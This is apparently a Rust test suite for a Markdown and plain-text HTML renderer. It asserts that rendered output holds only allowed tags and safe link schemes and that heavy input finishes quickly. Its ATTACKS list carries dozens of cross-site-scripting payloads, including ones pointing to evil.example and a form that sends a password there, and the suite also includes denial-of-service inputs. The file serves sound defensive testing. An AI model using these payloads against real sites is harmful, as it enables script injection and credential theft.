//! Text made to do harm, and text made to take long.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use touchstone_render::markup::{body_html, markdown_html, text_html};

use crate::html::tags;

/// Nothing but the allowed tags and attributes, and links that lead to the web, mail or a telephone.
fn harmless(html: &str) {
    for tag in tags(html) {
        let allowed =
            "a blockquote br code del em h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul";
        assert!(
            allowed.split(' ').any(|name| name == tag.name),
            "<{}> in {html}",
            tag.name
        );
        for (name, value) in &tag.attributes {
            match (tag.name.as_str(), name.as_str()) {
                ("a", "href") => assert!(
                    ["http:", "https:", "mailto:", "tel:"]
                        .iter()
                        .any(|start| value.to_ascii_lowercase().starts_with(start)),
                    "{html}"
                ),
                ("a", "rel") => assert_eq!(value, "noopener noreferrer nofollow ugc"),
                ("ol", "start") => assert!(value.chars().all(|c| c.is_ascii_digit() || c == '-'), "{html}"),
                other => panic!("{other:?} in {html}"),
            }
        }
    }
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/track.gif)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/admin/users)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body{display:none}</style><p style=\"position:fixed\">x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "`<script>`<script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n| --- |\n| <img onerror=x> |",
    "# <script>alert(1)</script>",
    "[a](https://x.example \"onmouseover=alert(1)\")",
    "[a](https://x.example/\"onmouseover=\"alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "http://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
];

#[test]
fn known_attacks_do_nothing() {
    for attack in ATTACKS {
        harmless(&markdown_html(attack));
        harmless(&text_html(attack));
        let wrapped = format!("> - {attack}\n\n**{attack}**\n\n[{attack}]({attack})");
        harmless(&markdown_html(&wrapped));
    }
}

#[test]
fn written_html_is_shown_as_it_was_written() {
    let html = markdown_html("I typed <b>this</b> & <script>that</script>");
    assert!(
        html.contains("&lt;b&gt;this&lt;/b&gt;") && html.contains("&lt;script&gt;"),
        "{html}"
    );
}

#[test]
fn markdown_keeps_what_agents_need() {
    let html = markdown_html(
        "# 标题\n\n**加粗**和*强调*\n第二行\n\n1. 一\n2. 二\n\n| 列 |\n| --- |\n| 值 |\n\n~~删~~ https://example.com/a",
    );
    for part in [
        "<h3>标题</h3>",
        "<strong>加粗</strong>",
        "<em>强调</em>",
        "<br>",
        "<ol>",
        "<td>值</td>",
        "<del>删</del>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(
        html.contains("<a href=\"https://example.com/a\" rel=\"noopener noreferrer nofollow ugc\">"),
        "{html}"
    );
}

#[test]
fn pictures_become_links() {
    let html = markdown_html("![收货照片](https://cdn.example/p.jpg)");
    assert!(
        html.contains("<a href=\"https://cdn.example/p.jpg\"")
            && html.contains("收货照片</a>")
            && !html.contains("<img"),
        "{html}"
    );
}

#[test]
fn plain_text_keeps_its_lines_and_links() {
    let html = text_html("第一行\n第二行\n\n见 https://example.com/a?b=1&c=2，谢谢。\nhttp://x.example.");
    assert!(html.starts_with("<p>第一行<br>第二行</p>"), "{html}");
    assert!(
        html.contains("href=\"https://example.com/a?b=1&amp;c=2\""),
        "{html}"
    );
    assert!(
        html.contains("</a>，谢谢。") && html.contains(">http://x.example</a>."),
        "{html}"
    );
    assert!(!text_html("**not bold** <b>nor this</b>").contains("<strong>"));
    assert_eq!(text_html(""), "");
    assert_eq!(body_html("*x*", "text"), "<p>*x*</p>");
}

#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "how long it takes is what this is about"
)]
fn nothing_takes_long() {
    let repeat = |text: &str, times| text.repeat(times);
    let mut nested_lists = String::new();
    for depth in 0..400 {
        nested_lists.push_str(&format!("{}- x\n", "  ".repeat(depth)));
    }
    let heavy = [
        repeat("> ", 10_000),
        repeat(">", 20_000),
        repeat("- ", 10_000),
        repeat("1. ", 6_000),
        nested_lists,
        repeat("[", 20_000),
        repeat("![", 10_000),
        repeat("[a](", 5_000),
        repeat("*a **b ", 3_000),
        repeat("`", 20_000),
        repeat("<", 20_000),
        repeat("<b>", 6_000),
        repeat("&#x41;", 3_000),
        repeat("|a", 10_000) + "\n" + &repeat("|-", 10_000),
        repeat("https://x.example/ ", 1_000),
        repeat("[x]: /y\n", 2_500),
        repeat("\u{202e}", 6_000),
        repeat("一", 20_000),
        repeat("x", 1_000_000),
    ];
    for text in &heavy {
        let begin = Instant::now();
        harmless(&markdown_html(text));
        harmless(&text_html(text));
        assert!(
            begin.elapsed() < Duration::from_secs(5),
            "{:.20}… took {:?}",
            text,
            begin.elapsed()
        );
    }
}

proptest! {
    #[test]
    fn no_text_becomes_harmful(text in "\\PC{0,200}") {
        harmless(&markdown_html(&text));
        harmless(&text_html(&text));
    }

    #[test]
    fn no_mixture_of_markup_becomes_harmful(parts in proptest::collection::vec(part(), 0..24)) {
        let text: String = parts.concat();
        harmless(&markdown_html(&text));
        harmless(&text_html(&text));
    }
}

fn part() -> impl Strategy<Value = String> {
    let pieces = [
        "<",
        ">",
        "\"",
        "'",
        "`",
        "=",
        "(",
        ")",
        "[",
        "]",
        "!",
        "\n",
        "\n\n",
        " ",
        "\t",
        "> ",
        "- ",
        "1. ",
        "# ",
        "| ",
        "---",
        "```",
        "**",
        "*",
        "~~",
        "script",
        "javascript:",
        "data:",
        "onerror",
        "onload=",
        "href",
        "src",
        "style=",
        "<img ",
        "<a ",
        "<svg/",
        "</",
        "/>",
        "<!--",
        "-->",
        "<![CDATA[",
        "&lt;",
        "&#x3c;",
        "&colon;",
        "\u{0}",
        "\u{202e}",
        "https://",
        "//",
        "mailto:",
        "文字",
        "x",
    ];
    prop_oneof![
        6 => proptest::sample::select(pieces.to_vec()).prop_map(str::to_owned),
        1 => proptest::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
        1 => "\\PC{0,6}",
    ]
}
